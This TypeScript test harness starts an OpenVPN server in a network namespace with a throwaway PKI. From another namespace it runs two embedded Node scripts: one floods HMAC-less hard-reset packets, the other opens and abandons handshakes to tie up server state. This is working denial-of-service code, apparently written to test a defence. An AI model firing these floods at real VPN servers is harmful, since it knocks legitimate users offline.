/**
 * A real OpenVPN server (UDP, server mode, tun device) in the topology's server
 * namespace, with a throwaway PKI made by openssl, and the raw packets of the
 * two attacks in seed 000 sent from another namespace.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Role, Topology } from './netns.js';
import { waitFor } from './daemon.js';

export interface Pki {
  ca: string;
  cert: string;
  key: string;
  /** Static key for `tls-auth`. */
  tlsAuth: string;
}

/** A CA and a server certificate (P-256, valid two days) plus a tls-auth key, in `dir`. */
export function makePki(dir: string): Pki {
  const f = (name: string): string => join(dir, name);
  const ec = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes'];
  execFileSync('openssl', ['req', '-x509', ...ec, '-keyout', f('ca.key'), '-out', f('ca.crt'), '-subj', '/CN=portcullis-test-ca', '-days', '2'], { stdio: 'pipe' });
  execFileSync('openssl', ['req', ...ec, '-keyout', f('server.key'), '-out', f('server.csr'), '-subj', '/CN=server'], { stdio: 'pipe' });
  writeFileSync(f('server.ext'), 'basicConstraints=CA:FALSE\nkeyUsage=digitalSignature,keyAgreement\nextendedKeyUsage=serverAuth\n');
  execFileSync('openssl', ['x509', '-req', '-in', f('server.csr'), '-CA', f('ca.crt'), '-CAkey', f('ca.key'), '-CAcreateserial', '-out', f('server.crt'), '-days', '2', '-extfile', f('server.ext')], { stdio: 'pipe' });
  execFileSync('openvpn', ['--genkey', 'secret', f('ta.key')], { stdio: 'pipe' });
  return { ca: f('ca.crt'), cert: f('server.crt'), key: f('server.key'), tlsAuth: f('ta.key') };
}

export interface OpenvpnServer {
  port: number;
  log: string;
  /** Lines of the server's log so far. */
  lines(): string[];
}

/**
 * Starts `openvpn` in server mode on `port` (UDP, server address) logging to `log`
 * (OpenVPN's own `--log` format: `YYYY-MM-DD hh:mm:ss message`). `hand-window 3`
 * makes an abandoned handshake time out in 3 s instead of 60 s.
 */
export async function startOpenvpn(topology: Topology, dir: string, pki: Pki, options: { name: string; port: number; tlsAuth: boolean; subnet: string }): Promise<OpenvpnServer> {
  const log = join(dir, `${options.name}.log`);
  const config = join(dir, `${options.name}.conf`);
  writeFileSync(config, [
    `server ${options.subnet} 255.255.255.0`,
    'proto udp4',
    `local ${topology.addresses.server.v4}`,
    `port ${options.port}`,
    `dev ${options.name}`,
    'dev-type tun',
    'topology subnet',
    'disable-dco',
    `ca ${pki.ca}`,
    `cert ${pki.cert}`,
    `key ${pki.key}`,
    'dh none',
    ...(options.tlsAuth ? [`tls-auth ${pki.tlsAuth} 0`] : []),
    'hand-window 3',
    'verb 3',
    `log ${log}`,
    '',
  ].join('\n'));
  const proc = topology.spawn('server', 'openvpn', ['--config', config]);
  const lines = (): string[] => (existsSync(log) ? readFileSync(log, 'utf8').split('\n').filter(Boolean) : []);
  await waitFor(() => {
    if (proc.exitCode !== null) throw new Error(`openvpn ${options.name} exited with ${proc.exitCode}:\n${lines().join('\n')}`);
    return lines().some((l) => l.endsWith('Initialization Sequence Completed'));
  }, 10_000, () => `openvpn ${options.name} did not start:\n${lines().join('\n')}`);
  return { port: options.port, log, lines };
}

/**
 * Runs a node script in `role`'s namespace that attacks an OpenVPN server at
 * `host:port` from source address `from`, and reports on stdout. Kinds:
 * - `bogus`: a stream of short P_CONTROL_HARD_RESET_CLIENT_V2 packets without
 *   the tls-auth HMAC (what scanners send), one every 20 ms from one port;
 * - `abandon`: every 300 ms, from a new port, a hard reset, then the ACK of the
 *   server's reset (OpenVPN 2.6 keeps no state before it), then silence: the
 *   handshake the server waits for never comes (seed 000's flood). Prints
 *   `reply` for each answer the server sends.
 */
export function attackOpenvpn(topology: Topology, role: Role, kind: 'bogus' | 'abandon', from: string, host: string, port: number) {
  const child = topology.spawn(role, process.execPath, ['-e', kind === 'bogus' ? BOGUS : ABANDON, from, host, String(port)]);
  let replies = 0;
  child.stdout!.setEncoding('utf8').on('data', (s: string) => (replies += (s.match(/reply/g) ?? []).length));
  return { stop: () => child.kill('SIGKILL'), replies: () => replies };
}

const BOGUS = `
const dgram = require('node:dgram');
const crypto = require('node:crypto');
const [from, host, port] = process.argv.slice(1);
const s = dgram.createSocket('udp4');
s.bind(0, from, () => setInterval(() => {
  // opcode 7 (hard reset client v2) key 0, session id, empty ack array, packet id: too short to hold an HMAC.
  s.send(Buffer.concat([Buffer.from([0x38]), crypto.randomBytes(8), Buffer.alloc(5)]), Number(port), host);
}, 20));`;

const ABANDON = `
const dgram = require('node:dgram');
const crypto = require('node:crypto');
const [from, host, port] = process.argv.slice(1);
function attempt() {
  const s = dgram.createSocket('udp4');
  const sid = crypto.randomBytes(8);
  s.on('message', (m) => {
    if (m[0] >> 3 !== 8) return;
    console.log('reply');
    // P_ACK_V1 of the server's reset: our session id, one acked packet id, the server's session id.
    s.send(Buffer.concat([Buffer.from([0x28]), sid, Buffer.from([1]), m.subarray(m.length - 4), m.subarray(1, 9)]), Number(port), host);
  });
  s.bind(0, from, () => s.send(Buffer.concat([Buffer.from([0x38]), sid, Buffer.alloc(5)]), Number(port), host));
}
attempt();
setInterval(attempt, 300);`;
